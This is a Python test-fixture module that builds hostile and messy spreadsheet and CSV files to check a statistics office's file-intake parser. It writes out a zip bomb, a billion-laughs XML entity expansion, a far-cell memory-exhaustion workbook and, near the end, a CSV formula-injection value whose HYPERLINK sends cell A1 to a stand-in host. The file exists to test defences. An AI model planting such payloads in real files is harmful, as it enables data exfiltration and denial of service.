"""Hostile and messy return files, written for real by the test suite (and the benchmark).

Each builder returns the bytes of one file a statistics office could meet in its
first week: a sheet whose only far cell is `XFD1048576`, a zip bomb, an
unterminated quote, a hidden sheet of old data, a password-protected workbook…
The builders use openpyxl/xlsxwriter for the workbook and then edit the zip's XML
where the hostile part is something no writer produces on purpose.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Sequence
from typing import Any

import openpyxl

from tests.returns_factory import DIEUTRA_HEADERS, THANHTRA_HEADERS, dieutra_row, thanhtra_row

CLEAR_NAMES = ("Nguyễn Văn Thử", "Lê Thị Mẫu", "Trần Văn Bí Mật", "Phạm Thị Riêng Tư")


def workbook_bytes(sheets: Sequence[tuple[str, Sequence[Sequence[Any]], str]]) -> bytes:
    """An xlsx with the given sheets: (title, rows, state) where state is visible, hidden or veryHidden."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows, state in sheets:
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(list(row))
        ws.sheet_state = state
    visible = [i for i, (_, _, state) in enumerate(sheets) if state == "visible"]
    if visible:
        wb.active = visible[0]
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def thanhtra_table(n: int = 3, start: int = 1, **overrides: Any) -> list[list[Any]]:
    return [THANHTRA_HEADERS, *[thanhtra_row(i, **overrides) for i in range(start, start + n)]]


def rewrite_zip(data: bytes, edit: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """Copy an xlsx, letting `edit` change (or drop, with None) each part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = edit(info.filename, src.read(info))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def csv_bytes(header: Sequence[str], rows: Sequence[Sequence[Any]], sep: str = "\r\n") -> bytes:
    def cell(v: Any) -> str:
        if v is None:
            return ""
        text = str(v)
        return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text

    return (sep.join(",".join(cell(v) for v in r) for r in [header, *rows]) + sep).encode("utf-8")


# --- files that must be rejected ---------------------------------------------------------


def far_cell(dimension: bool = True) -> bytes:
    """A 2 KB workbook whose only far cell is XFD1048576: calamine would allocate ~512 GB."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in thanhtra_table(2):
        ws.append(row)
    ws["XFD1048576"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    if dimension:
        return data
    return rewrite_zip(
        data,
        lambda name, body: re.sub(rb"<dimension[^>]*/>", b"", body) if name.startswith("xl/worksheets/") else body,
    )


def zip_bomb(megabytes: int = 64) -> bytes:
    """A sheet XML of `megabytes` MB of identical rows: a small file that inflates enormously."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheetData>'
        + row * (megabytes * 1024 * 1024 // len(row))
        + b"</sheetData></worksheet>"
    )
    base = workbook_bytes([("Bieu", thanhtra_table(2), "visible")])
    return rewrite_zip(base, lambda name, b: body if name == "xl/worksheets/sheet1.xml" else b)


def truncated_zip() -> bytes:
    data = workbook_bytes([("Bieu", thanhtra_table(3), "visible")])
    return data[: len(data) // 2]


def dtd_entities() -> bytes:
    """Sheet XML with a DTD declaring nested entities (billion laughs)."""
    dtd = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    base = workbook_bytes([("Bieu", thanhtra_table(2), "visible")])
    return rewrite_zip(
        base,
        lambda name, b: dtd + re.sub(rb"^<\?xml[^>]*\?>", b"", b) if name == "xl/worksheets/sheet1.xml" else b,
    )


def encrypted() -> bytes:
    """A real password-protected workbook (ECMA-376 agile encryption, as Excel writes it)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook_bytes([("Bieu", thanhtra_table(2), "visible")]))).encrypt("matkhau", out)
    return out.getvalue()


def xlsx_with_cell(chars: int) -> bytes:
    return workbook_bytes([("Bieu", thanhtra_table(2, title="x" * chars), "visible")])


def csv_with_cell(chars: int) -> bytes:
    return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(1, title="x" * chars), thanhtra_row(2)])


def unterminated_quote(n: int = 8) -> bytes:
    """8 records; the title of record 3 opens a quote it never closes."""
    text = csv_bytes(THANHTRA_HEADERS, [thanhtra_row(i) for i in range(1, n + 1)]).decode("utf-8")
    lines = text.split("\r\n")
    lines[3] = lines[3].replace("Thanh tra việc", '"Thanh tra việc', 1)
    return "\r\n".join(lines).encode("utf-8")


def quote_closed_by_luck(n: int = 8) -> bytes:
    """A quote opened in record 3 and closed, by accident, at the end of a quoted field in record 6."""
    plain = {"recommended_recovery_vnd": "1200000000", "violation_land_m2": "1250.5"}  # no quoted cell elsewhere
    rows = [thanhtra_row(i, **plain) for i in range(1, n + 1)]
    text = csv_bytes(THANHTRA_HEADERS, rows).decode("utf-8")
    lines = text.split("\r\n")
    lines[3] = lines[3].replace("Thanh tra việc", '"Thanh tra việc', 1)
    lines[6] = lines[6].replace(",Theo kế hoạch,", ',Theo kế hoạch",', 1)
    return "\r\n".join(lines).encode("utf-8")


def two_matching_sheets() -> bytes:
    return workbook_bytes([("Bieu", thanhtra_table(2), "visible"), ("Ban sao", thanhtra_table(2, 10), "visible")])


def only_hidden_table() -> bytes:
    return workbook_bytes([("Huong dan", [["Hướng dẫn điền biểu"]], "visible"), ("Cu", thanhtra_table(3), "hidden")])


# --- files that load, with every row accounted for ------------------------------------------


def hidden_old_data_first() -> bytes:
    """Sheet 1 hidden (last year's rows, ids 900+), the real table visible on sheet 2."""
    return workbook_bytes([("Cu", thanhtra_table(4, 900), "hidden"), ("Bieu", thanhtra_table(3), "visible")])


def very_hidden_old_data_first() -> bytes:
    data = workbook_bytes([("Cu", thanhtra_table(4, 900), "hidden"), ("Bieu", thanhtra_table(3), "visible")])
    return rewrite_zip(
        data, lambda name, b: b.replace(b'state="hidden"', b'state="veryHidden"') if name == "xl/workbook.xml" else b
    )


def table_on_later_sheet() -> bytes:
    return workbook_bytes([("Huong dan", [["Hướng dẫn điền biểu"], ["Gửi trước ngày 20"]], "visible"),
                           ("Bieu", thanhtra_table(3), "visible")])  # fmt: skip


def signature_line_mid_table(n: int = 10) -> bytes:
    """`,Người lập biểu,,,` between records 4 and 5: a note, not the end of the table."""
    rows: list[list[Any]] = [thanhtra_row(i) for i in range(1, n + 1)]
    note = [None] * len(THANHTRA_HEADERS)
    note[1] = "Người lập biểu"
    rows.insert(4, note)
    return csv_bytes(THANHTRA_HEADERS, rows)


def key_starting_with_tong_so() -> bytes:
    return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(1), thanhtra_row(2, inspection_id="Tổng số 12/TTr")])


def overflowing_numbers() -> bytes:
    return csv_bytes(
        THANHTRA_HEADERS,
        [
            thanhtra_row(1, orgs_proposed="99999999999"),
            thanhtra_row(2, violation_vnd="99999999999 tỷ"),
            thanhtra_row(3, violation_land_m2="1e30"),
            thanhtra_row(4),
        ],
    )


def formula_without_value() -> bytes:
    """Record 2's violation amount is a formula Excel never calculated (no cached value)."""
    base = workbook_bytes([("Bieu", thanhtra_table(3), "visible")])
    col = THANHTRA_HEADERS.index("Sai phạm về tiền (đồng)")
    letter = openpyxl.utils.get_column_letter(col + 1)

    def edit(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        return re.sub(
            rb'<c r="' + letter.encode() + rb'3"[^>]*>.*?</c>',
            b'<c r="' + letter.encode() + b'3"><f>SUM(X1:X2)</f></c>',
            body,
            count=1,
            flags=re.S,
        )

    return rewrite_zip(base, edit)


def negative_as_written() -> bytes:
    return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(1, violation_vnd="-5.000.000"), thanhtra_row(2)])


def names_under_variant_header(header: str) -> bytes:
    headers = [header if h == "Họ tên bị can" else h for h in DIEUTRA_HEADERS]
    return csv_bytes(headers, [dieutra_row(1, accused_names=f"{CLEAR_NAMES[2]}; {CLEAR_NAMES[3]}"), dieutra_row(2)])


def unknown_names_column() -> bytes:
    """A thanhtra return with a column the contract does not list: names of whistle-blowers."""
    header = [*THANHTRA_HEADERS, "Họ và tên người tố cáo"]
    return csv_bytes(header, [[*thanhtra_row(1), CLEAR_NAMES[2]], [*thanhtra_row(2), CLEAR_NAMES[3]]])


def quarantined_row_with_names() -> bytes:
    """A dieutra row quarantined (bad date) whose names must reach quarantine only as pseudonyms."""
    return csv_bytes(
        DIEUTRA_HEADERS,
        [
            dieutra_row(1, initiation_date="32/13/2024", accused_names=f"{CLEAR_NAMES[2]}; {CLEAR_NAMES[3]}"),
            dieutra_row(2),
        ],
    )


def bom_in_the_middle() -> bytes:
    rows = [thanhtra_row(1), thanhtra_row(2, title="\ufeffThanh tra có BOM giữa dòng"), thanhtra_row(3)]
    return b"\xef\xbb\xbf" + csv_bytes(THANHTRA_HEADERS, rows)


def mixed_line_ends() -> bytes:
    text = csv_bytes(THANHTRA_HEADERS, [thanhtra_row(i) for i in range(1, 5)]).decode("utf-8")
    lines = text.split("\r\n")
    return (lines[0] + "\n" + lines[1] + "\r\n" + lines[2] + "\n" + lines[3] + "\r\n" + lines[4] + "\n").encode()


def million_blank_rows() -> bytes:
    """3 records, then formatted blank rows down to row 1,048,576 (Excel's last row)."""
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("Bieu")
    fmt = wb.add_format({"border": 1})
    for r, row in enumerate(thanhtra_table(3)):
        for c, v in enumerate(row):
            if v is not None:
                ws.write(r, c, v)
    ws.write_blank(1_048_575, len(THANHTRA_HEADERS) - 1, None, fmt)
    wb.close()
    return buf.getvalue()


def merged_over_data() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in thanhtra_table(4):
        ws.append(row)
    ws.merge_cells("D2:D3")  # the sector of records 1 and 2 merged into one cell
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def long_cell_within_limit(chars: int = 20_000) -> bytes:
    return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(1, inspected_entity="Đơn vị " + "x" * chars), thanhtra_row(2)])


def many_rows_csv(n: int) -> bytes:
    return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(i) for i in range(1, n + 1)])


FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def formula_text_values() -> bytes:
    """Text that a spreadsheet would run as a formula, in a text column and in a money column."""
    return csv_bytes(
        THANHTRA_HEADERS,
        [thanhtra_row(1, inspected_entity=FORMULA_TEXT), thanhtra_row(2, violation_vnd="=1+1"), thanhtra_row(3)],
    )
